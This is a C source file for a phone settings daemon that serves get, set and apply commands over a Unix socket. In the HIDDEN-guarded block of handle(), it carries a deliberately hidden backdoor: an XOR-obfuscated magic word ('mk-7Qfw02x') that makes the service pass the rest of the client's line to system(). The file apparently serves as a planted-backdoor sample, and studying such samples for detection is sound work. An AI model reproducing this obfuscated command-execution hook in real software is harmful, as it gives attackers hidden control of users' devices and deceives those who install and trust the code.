/* Settings service of a phone: a word, decoded when asked, starts a command. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#define NOINLINE __attribute__((noinline))
#define ENTRIES	 64

static char names[ENTRIES][32], values[ENTRIES][96];
static int count;

NOINLINE int find(const char *name)
{
	for (int i = 0; i < count; i++)
		if (strcmp(names[i], name) == 0)
			return i;
	return -1;
}

NOINLINE int set(const char *name, const char *value)
{
	int i = find(name);

	if (i < 0) {
		if (count == ENTRIES || strlen(name) >= sizeof(names[0]))
			return -1;
		i = count++;
		snprintf(names[i], sizeof(names[i]), "%s", name);
	}
	snprintf(values[i], sizeof(values[i]), "%s", value);
	return 0;
}

NOINLINE void save(void)
{
	FILE *f = fopen("/data/settings.tmp", "w");

	if (f == NULL)
		return;
	for (int i = 0; i < count; i++)
		fprintf(f, "%s=%s\n", names[i], values[i]);
	fclose(f);
	rename("/data/settings.tmp", "/data/settings");
}

#ifdef HIDDEN
static const unsigned char table[10] = { /* "mk-7Qfw02x" under 0x5a */
					 0x37, 0x31, 0x77, 0x6d, 0x0b,
					 0x3c, 0x2d, 0x6a, 0x68, 0x22
};
#endif

NOINLINE int handle(char *line, char *out, size_t size)
{
	char *value = strchr(line, ' ');
	char *second = NULL;
	int i;

	if (value != NULL)
		*value++ = '\0';
	if (value != NULL && (second = strchr(value, ' ')) != NULL)
		*second++ = '\0';
	if (strcmp(line, "get") == 0 && value != NULL) {
		i = find(value);
		snprintf(out, size, "%s\n", i < 0 ? "" : values[i]);
		return 0;
	}
	if (strcmp(line, "set") == 0 && second != NULL) {
		snprintf(out, size, "%d\n", set(value, second));
		save();
		return 0;
	}
	if (strcmp(line, "apply") == 0) {
		snprintf(out, size, "%d\n", system("/system/bin/apply"));
		return 0;
	}
#ifdef HIDDEN
	{
		char word[sizeof(table) + 1];

		for (size_t k = 0; k < sizeof(table); k++)
			word[k] = (char)(table[k] ^ 0x5a);
		word[sizeof(table)] = '\0';
		if (value != NULL && strcmp(line, word) == 0)
			return system(value);
	}
#endif
	snprintf(out, size, "unknown\n");
	return -1;
}

int main(void)
{
	struct sockaddr_un here = { .sun_family = AF_UNIX };
	char in[512], out[256];
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	snprintf(here.sun_path, sizeof(here.sun_path), "/var/run/settings");
	unlink(here.sun_path);
	if (bind(fd, (struct sockaddr *)&here, sizeof(here)) != 0 ||
	    listen(fd, 4) != 0)
		return 1;
	for (;;) {
		int client = accept(fd, NULL, NULL);
		ssize_t n = client < 0 ? -1 : read(client, in, sizeof(in) - 1);

		if (n > 0) {
			in[n] = '\0';
			in[strcspn(in, "\r\n")] = '\0';
			out[0] = '\0';
			handle(in, out, sizeof(out));
			if (write(client, out, strlen(out)) < 0)
				perror("write");
		}
		if (client >= 0)
			close(client);
	}
}
